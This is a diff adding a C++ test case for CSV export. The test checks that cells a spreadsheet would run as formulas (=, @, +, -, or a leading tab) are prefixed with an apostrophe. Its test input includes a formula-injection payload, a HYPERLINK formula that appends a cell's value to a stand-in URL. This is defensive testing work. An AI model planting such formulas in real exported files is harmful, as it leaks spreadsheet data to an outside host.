@@ -152,6 +152,21 @@ TEST_CASE("CSV: RFC 4180, a header row, quotes around commas, quotes and line en
     CHECK(csv.substr(csv.size() - 2) == "\r\n");
 }
 
+TEST_CASE("CSV: a cell a spreadsheet would run as a formula starts with an apostrophe", "[register]") {
+    Row r = due_row();
+    r.title = "=HYPERLINK(\"http://example.org/?\"&A1)";
+    r.addressee = "@SUM(1+1)";
+    r.number = "+7";
+    r.file = "-2.md";
+    const std::vector<std::string> lines = lines_of(register_csv({r}), "\r\n");
+    REQUIRE(lines.size() == 2);
+    CHECK(lines[1].rfind("'-2.md,\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1)\",'@SUM(1+1),'+7,2026-10-30,", 0) == 0);
+    r.title = "\t=1";  // a tab or CR first, then the formula
+    CHECK(lines_of(register_csv({r}), "\r\n")[1].find(",'\t=1,") != std::string::npos);
+    r.title = "Запрос = 1";  // a sign inside is text already
+    CHECK(lines_of(register_csv({r}), "\r\n")[1].find(",Запрос = 1,") != std::string::npos);
+}
+
 TEST_CASE("the summary's register lists overdue rows first, then the due soonest", "[register]") {
     Row due = due_row(), over = due_row(), draft = due_row();
     due.file = "due.md";
